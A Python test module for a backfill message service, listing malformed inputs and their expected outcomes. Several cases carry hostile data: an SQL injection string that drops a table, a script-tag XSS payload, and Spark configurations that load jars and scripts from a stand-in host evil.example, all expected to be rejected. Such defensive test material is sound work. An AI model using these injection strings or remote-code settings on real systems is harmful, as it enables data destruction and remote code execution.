"""Every kind of bad input with the outcome that it has: a dead letter, a reply, or none."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from tests.support.definitions import daily

from retrofill_core.contract.topics import Topic

REQUESTS = Topic.BACKFILL_REQUESTS
DAY = {"from": "2024-01-01", "to": "2024-01-01"}
MAX_CONF = 10_000
# Far above the broker's limit of 2 MiB, which applies to the stored size, so compression lets it
# through.
HUGE = 10_000_000


def request(pipeline: str = "bad", **fields: Any) -> dict[str, Any]:
    """The body of a request."""
    return {"type": "BackfillRequested", "pipeline": pipeline, **DAY, **fields}


def with_conf(text: str) -> bytes:
    """A request whose ``conf.x`` is this raw text, valid JSON or not."""
    return json.dumps(request(conf={"x": "HERE"})).replace('"HERE"', text).encode()


def applied(name: str, **fields: Any) -> dict[str, Any]:
    """The body of a ``PipelineApplied``."""
    return {"type": "PipelineApplied", "pipeline": {**daily().as_json(), "name": name, **fields}}


@dataclass(frozen=True)
class Dead:
    """Expects a dead letter with this reason."""

    reason: str
    cut: bool = False


@dataclass(frozen=True)
class Answer:
    """Expects a reply of this type with these fields."""

    type: str
    fields: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    """One message. A ``key`` of ``...`` means the case's name; ``away`` is the distance from the
    home partition.
    """

    value: Any
    outcome: Dead | Answer
    topic: Topic = REQUESTS
    key: Any = ...
    headers: tuple[tuple[str, bytes], ...] = ()
    away: int = 0

    def bytes(self) -> bytes | None:
        """The value as published."""
        return json.dumps(self.value).encode() if isinstance(self.value, dict) else self.value


def rejected(reason: str, **fields: Any) -> Answer:
    """Expects a rejected request."""
    return Answer("BackfillRejected", {"reason": reason, **fields})


def planned(runs: int, **fields: Any) -> Answer:
    """Expects a planned request."""
    return Answer("BackfillPlanned", {"runs": runs, **fields})


def day(n: int) -> dict[str, str]:
    """A one-day range that no other case uses."""
    one = f"2024-02-{n:02}"
    return {"from": one, "to": one}


SQL = "'; DROP TABLE retrofill.run; --"
HTML = "<script>alert(1)</script>"
CASES = {
    # not messages at all
    "null": Case(None, Dead("the value is null")),
    "null_run_event": Case(None, Dead("the value is null"), topic=Topic.RUN_EVENTS),
    "null_report": Case(None, Dead("the value is null"), topic=Topic.RUN_REPORTS),
    "null_deadline": Case(None, Dead("the value is null"), topic=Topic.DEADLINES),
    "empty": Case(b"", Dead("not JSON")),
    "truncated": Case(json.dumps(request()).encode()[:-20], Dead("not JSON")),
    "truncated_pipeline": Case(b'{"type": "PipelineApplied", "pipe', Dead("not JSON"), topic=Topic.PIPELINES),
    "truncated_report": Case(b'{"type": "AttemptHeartbeat"', Dead("not JSON"), topic=Topic.RUN_REPORTS),
    "truncated_deadline": Case(b'{"type": "DeadlineArmed"', Dead("not JSON"), topic=Topic.DEADLINES),
    "no_object": Case(b"[]", Dead("not an object")),
    "not_utf8": Case(b'{"type": "\xff"}', Dead("not UTF-8")),
    "utf16": Case(json.dumps(request()).encode("utf-16"), Dead("not UTF-8")),
    "header_not_utf8": Case(request(), Dead("the header 'ce_source' is not UTF-8"), headers=(("ce_source", b"\xff"),)),
    "id_with_nul": Case(
        {"type": "BackfillPauseRequested"}, Dead("'ce_id' holds a NUL"), headers=(("ce_id", b"id_with_nul\0"),)
    ),
    "key_not_utf8": Case(request(), Dead("the key is not UTF-8"), key=b"\xff\xfe"),
    "key_with_newline": Case(request(), Dead("invalid key"), key=b"a\nb"),
    "registry": Case(
        b"\0\0\0\0\7" + json.dumps(request()).encode(), Dead("a schema id (7), as Schema Registry serializers")
    ),
    "registry_pipeline": Case(b"\0\0\0\1\0{}", Dead("publish plain JSON"), topic=Topic.PIPELINES),
    "deep": Case(with_conf("[" * 200 + "]" * 200), Dead("nested more than 100 levels")),
    "nan": Case(with_conf("NaN"), Dead("NaN is not JSON")),
    "infinite": Case(with_conf("1e400"), Dead("1e400 is too large")),
    "65_bits": Case(with_conf(str(2**64)), Dead("does not fit 64 bits")),
    "nul": Case(with_conf(r'"a\u0000b"'), Dead("NUL")),
    "nul_in_pipeline": Case(request("a\0b"), Dead("NUL")),
    "half_a_character": Case(with_conf(r'"\ud83d"'), Dead("surrogate")),
    # messages that belong elsewhere
    "unknown_type": Case({"type": "BackfillWished"}, Dead("unknown message type 'BackfillWished'")),
    "no_type": Case({"pipeline": "bad"}, Dead("has no type")),
    "wrong_topic": Case({"type": "DeadlineArmed", "deadline_id": 1, "due_at": "2024-01-01T00:00:00Z"}, Dead("belong")),
    "wrong_run_event": Case(request(), Dead("does not belong on run-events"), topic=Topic.RUN_EVENTS),
    "wrong_pipeline": Case(request(), Dead("does not belong on pipelines"), topic=Topic.PIPELINES),
    "wrong_report": Case(request(), Dead("does not belong on run-reports"), topic=Topic.RUN_REPORTS),
    "wrong_deadline": Case(request(), Dead("does not belong on deadlines"), topic=Topic.DEADLINES),
    "newer": Case(request(version=2), Dead("version 2 is newer")),
    "newer_pipeline": Case({**applied("newer"), "version": 2}, Dead("version 2 is newer"), topic=Topic.PIPELINES),
    "version_0": Case(request(version=0), Dead("version")),
    "unknown_field": Case(
        request(max_active_run=1), Dead("unknown field 'max_active_run': did you mean 'max_active_runs'?")
    ),
    "unknown_field_of_a_command": Case(
        {"type": "BackfillPauseRequested", "backfill": "x"}, Dead("unknown field 'backfill'; known fields: type,")
    ),
    "unknown_field_of_a_task": Case(
        applied("unknown_field_of_a_task", tasks=[{"name": "a", "retry": 3}]),
        Dead("pipeline.tasks.0: unknown field 'retry': did you mean 'retries'?"),
        topic=Topic.PIPELINES,
    ),
    "unknown_field_of_a_report": Case(
        {"type": "AttemptHeartbeat", "backfill_id": "unknown_field_of_a_report", "attempt_id": 2**63 - 1, "later": 1},
        Dead("has no attempt"),
        topic=Topic.RUN_REPORTS,
    ),
    # From before attempts had ids.
    "report_of_an_older_driver": Case(
        {"type": "RunHeartbeat", "backfill_id": "known", "run_id": 1, "attempt": 1},
        Dead("unknown message type 'RunHeartbeat'"),
        topic=Topic.RUN_REPORTS,
        key=b"known",
    ),
    "end_of_an_older_driver": Case(
        {"type": "RunReported", "backfill_id": "known", "run_id": 1, "attempt": 1, "state": "failed"},
        Dead("attempt_id: Field required"),
        topic=Topic.RUN_REPORTS,
        key=b"known",
    ),
    # ids
    "other_id": Case(request(id="somebody-else"), Dead("differs from the body's id 'somebody-else'")),
    "other_backfill": Case(
        {"type": "AttemptHeartbeat", "backfill_id": "x", "attempt_id": 1},
        Dead("differs from the body's backfill_id 'x'"),
        topic=Topic.RUN_REPORTS,
    ),
    "unknown_attempt": Case(
        {"type": "AttemptHeartbeat", "backfill_id": "known", "attempt_id": 2**63 - 1},
        Dead("has no attempt"),
        topic=Topic.RUN_REPORTS,
        key=b"known",
    ),
    # Attempt 1 is that of "known".
    "attempt_of_another_backfill": Case(
        {"type": "AttemptEnded", "backfill_id": "attempt_of_another_backfill", "attempt_id": 1, "state": "lost"},
        Dead("has no attempt 1"),
        topic=Topic.RUN_REPORTS,
    ),
    "unknown_run": Case(
        {"type": "RunBegan", "backfill_id": "known", "attempt_id": 1, "run_id": 2**63 - 1, "attempt": 1},
        Dead("has no run"),
        topic=Topic.RUN_REPORTS,
        key=b"known",
    ),
    "no_key_report": Case(
        {"type": "AttemptHeartbeat", "backfill_id": "x", "attempt_id": 1},
        Dead("the message has no key"),
        topic=Topic.RUN_REPORTS,
        key=None,
    ),
    "misplaced_and_bad": Case(b"{", Dead("not JSON"), away=1),
    "misplaced_and_unknown": Case(request("nope"), rejected("unknown_pipeline"), away=1),
    "known_id_again": Case(
        request("good", conf={"another": "body"}), Dead("is already used by a request with another body"), key=b"known"
    ),
    # timestamps
    "wrong_order": Case(request(**{"from": "2024-01-02", "to": "2024-01-01"}), rejected("bad_range")),
    "naive": Case(request(**{"from": "2024-01-01T00:00:00"}), Dead("has no UTC offset")),
    "naive_deadline": Case(request(finish_by="2030-01-01T00:00:00"), Dead("finish_by")),
    "no_date": Case(request(to="tomorrow"), Dead("'tomorrow' is neither a date")),
    "day_that_is_not": Case(request(to="2024-02-30"), Dead("to:")),
    "calendars_end": Case(request(to="9999-12-31"), rejected("bad_range")),
    "unbounded": Case(request("minutely", to="9998-12-31"), rejected("too_many_runs")),
    "unbounded_daily": Case(request(**{"from": "0002-01-01", "to": "9998-12-31"}), rejected("too_many_runs")),
    "never": Case(applied("never", schedule="0 0 30 2 *"), Dead("'0 0 30 2 *'"), topic=Topic.PIPELINES),
    "no_zone": Case(applied("no_zone", timezone="Mars/Olympus"), Dead("unknown time zone"), topic=Topic.PIPELINES),
    # attempts to inject code
    "jars": Case(
        applied("jars", spark_conf={"spark.jars": "https://evil.example/x.jar"}),
        Answer("PipelineRejected", {"pipeline": "jars"}),
        topic=Topic.PIPELINES,
    ),
    "script_from_elsewhere": Case(
        applied(
            "script_from_elsewhere",
            tasks=[{"name": "a", "kind": "submit", "submit": {"script": "https://evil.example/x.py"}}],
        ),
        Answer("PipelineRejected", {"pipeline": "script_from_elsewhere"}),
        topic=Topic.PIPELINES,
    ),
    "jar_of_a_script": Case(
        applied(
            "jar_of_a_script",
            tasks=[
                {"name": "a", "kind": "submit", "submit": {"script": "/x.py", "jars": ["https://evil.example/x.jar"]}}
            ],
        ),
        Answer("PipelineRejected", {"pipeline": "jar_of_a_script"}),
        topic=Topic.PIPELINES,
    ),
    # size
    "huge": Case(with_conf('"' + "x" * HUGE + '"'), rejected("conf_too_large")),
    "huge_without_key": Case(with_conf('"' + "x" * HUGE + '"'), Dead("the limit is 900,000", cut=True), key=None),
    "huge_and_bad": Case(b'"' + b"x" * HUGE, Dead("not JSON", cut=True)),
    "huge_headers": Case(request(), Dead("bytes, more than 50,000", cut=True), headers=(("x", b"x" * 2_000_000),)),
    "huge_key": Case(request(), Dead("invalid key", cut=True), key=b"k" * 2_000_000),
    "huge_type": Case({"type": "T" * 1_000_000}, Dead("unknown message type")),
    "secret": Case(request(conf={"db": {"password": "hunter2"}}), rejected("secret_in_conf")),
    "huge_conf": Case(request(conf={"x": "y" * MAX_CONF}), rejected("conf_too_large")),
    # suspicious, but only text
    "sql": Case(request(SQL), rejected("unknown_pipeline", pipeline=SQL)),
    "html": Case(request(HTML), rejected("unknown_pipeline", pipeline=HTML)),
    "sql_key": Case(request("nope"), rejected("unknown_pipeline"), key=SQL.encode()),
    "sql_pipeline": Case(applied(SQL), Dead("invalid name"), topic=Topic.PIPELINES, key=SQL.encode()),
    "pause_of_nothing": Case({"type": "BackfillPauseRequested"}, Answer("BackfillCommandRejected")),
    # suspicious, but valid
    "no_key": Case(request(**day(1)), planned(1), key=None),
    "empty_key": Case(request(**day(2)), planned(1), key=b""),
    "key_in_the_body": Case(request(id="named", **day(3)), planned(1, backfill_id="named"), key=None),
    "misplaced": Case(request(**day(4)), planned(1), away=2),
    # 02:30 does not exist in New York on this day. With an offset it is still a valid moment, 07:30
    # UTC.
    "in_the_gap": Case(
        request("hourly", **{"from": "2024-03-10T02:30:00-05:00", "to": "2024-03-10T04:00:00-04:00"}),
        planned(1, range_start="2024-03-10T08:00:00Z", range_end="2024-03-10T09:00:00Z"),
    ),
    # The whole day, which has 23 hours.
    "day_of_the_gap": Case(
        request("gap", **{"from": "2024-03-10", "to": "2024-03-10"}),
        planned(23, range_start="2024-03-10T05:00:00Z", range_end="2024-03-11T04:00:00Z"),
    ),
    "largest_integer": Case(with_conf(str(2**63 - 1)).replace(b"2024-01-01", b"2024-02-10"), planned(1)),
}
